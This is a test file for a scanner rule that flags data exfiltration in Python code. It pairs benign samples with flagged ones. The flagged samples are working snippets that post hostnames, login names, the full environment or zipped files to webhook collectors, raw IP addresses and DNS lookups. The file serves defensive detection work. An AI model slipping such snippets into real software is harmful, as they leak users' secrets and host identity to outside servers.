import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-exfiltration.js';

ruleTest(rule, {
  clean: [
    { name: 'curl downloading a file (no upload)', file: 'get.py', code: `import os\nos.system("curl -L -o tool.tar.gz https://github.com/org/tool/releases/download/v1/tool.tar.gz")\n` },
    { name: 'base64 image data is not a URL', file: 'img.py', code: `LOGO = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="\n` },
    { name: 'resolving the own hostname (smtplib, uuid)', file: 'smtplib.py', code: `import socket\naddr = socket.gethostbyname(socket.gethostname())\n` },
    { name: 'local dev server', file: 'app.py', code: `import requests\nr = requests.get("http://127.0.0.1:1245/api/health")\nr2 = requests.post("http://192.168.1.10:8000/x", json={"a": 1})\n` },
    { name: 'requests own code building a URL', file: 'requests/models.py', code: `from urllib.parse import urlencode\ndef prepare_url(self, url, params):\n    enc_params = self._encode_params(params)\n    self.url = url + "?" + enc_params\n` },
    { name: 'API client with documented host', file: 'client.py', code: `import httpx, os\nTOKEN = os.environ["API_TOKEN"]\nhttpx.get("https://api.github.com/user", headers={"Authorization": TOKEN})\n` },
    { name: 'a plain request to a named index', file: 'n.py', code: `import requests\nrequests.get("https://pypi.org/simple/")\n` },
    { name: 'HTTPSConnection request with no host data', file: 'h.py', code: `from http.client import HTTPSConnection\nfrom os import getlogin\nprint(getlogin())\nconn = HTTPSConnection("api.example.org")\nconn.request("GET", "/status")\n` },
  ],
  flagged: [
    {
      name: 'discord webhook post',
      file: 'x.py',
      code: `import requests\nHOOK = "https://discord.com/api/webhooks/123/abcdef"\nrequests.post(HOOK, json={"content": data})\n`,
      findings: [{ line: 2, confidence: 'high' }],
    },
    {
      name: 'raw IP on a lure port',
      file: 'y.py',
      code: `import requests\nrequests.post("http://95.164.17.24:1224/keys", files=files)\n`,
      findings: [{ line: 2, confidence: 'high', message: /port 1224/ }],
    },
    {
      name: 'recon beacon with hostname',
      file: 'setup.py',
      code: `import socket, getpass, requests\ninfo = {"h": socket.gethostname(), "u": getpass.getuser()}\nrequests.get("https://a8f3.example-collector.net/c", params=info)\n`,
      findings: [{ line: 3, message: /host identity \(socket\.gethostname\)/ }],
    },
    {
      name: 'DNS exfiltration of the hostname',
      file: 'd.py',
      code: `import socket\nname = socket.gethostname() + ".x.oast-collector.example"\nsocket.gethostbyname(name)\n`,
      findings: [{ line: 3, confidence: 'high', message: /DNS lookup/ }],
    },
    {
      name: 'login name posted through an HTTPSConnection object',
      file: 'c.py',
      code: `from http.client import HTTPSConnection\nfrom os import getlogin\nfrom json import dumps\ndef send(host, path, e):\n    body = {'n': getlogin(), 'e': e}\n    conn = HTTPSConnection(host, timeout=1)\n    conn.request('POST', path, dumps(body))\n`,
      findings: [{ line: 7, message: /host identity \(getlogin\) to a remote server/, severity: 'high', confidence: 'medium' }],
    },
    {
      name: 'the whole environment sent to a tunnel',
      file: 'm.py',
      code: `import os, json, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\nreq = urllib.request.Request("https://collector.example.org/x", data=data)\nurllib.request.urlopen(req)\n`,
      findings: [{ line: 3, message: /host identity \(dict\(os\.environ\)\)/, severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'host identity sent to a webhook collector is critical',
      file: 'analyzer.py',
      code: `import socket, requests\ndata = {'hostname': socket.gethostname(), 'os': 'x'}\nrequests.post('https://webhook.site/baf67bd8-0000/analytics', json=data)\n`,
      findings: [
        { line: 3, message: /host identity \(socket\.gethostname\) to https:\/\/webhook\.site/, severity: 'critical', confidence: 'high' },
        { line: 3, message: /Data drop endpoint webhook\.site/ },
      ],
    },
    {
      name: 'the environment among other host data is what counts',
      file: 'mlc.py',
      code: `import socket, os, json, urllib.request\ndef send(url):\n    data = {"hostname": socket.gethostname(), "env": dict(os.environ)}\n    req = urllib.request.Request(url, data=json.dumps(data).encode())\n    urllib.request.urlopen(req)\n`,
      findings: [{ line: 4, message: /host identity \(dict\(os\.environ\)\)/, severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'host identity through a session object',
      file: 's.py',
      code: `import aiohttp, getpass\nasync def go():\n    session = aiohttp.ClientSession()\n    await session.post("https://collect.example.net/u", data={"u": getpass.getuser()})\n`,
      findings: [{ line: 4, message: /host identity \(getpass\.getuser\)/, severity: 'high', confidence: 'medium' }],
    },
    {
      name: 'a zip posted with curl -F to a raw IP',
      file: 'api.py',
      code: `import os\ndef up(zipname):\n    command = "curl -k -F \\"file=@" + zipname + "\\" \\"https://54.254.189.27/api/v1/file/upload\\" > /dev/null 2>&1"\n    os.system(command)\n`,
      findings: [{ line: 3, severity: 'high', confidence: 'high', message: /Uploads a file with curl \(-F "file=@\) to https:\/\/54\.254\.189\.27\/api\/v1\/file\/upload \(a raw IP address\)/ }],
    },
  ],
});
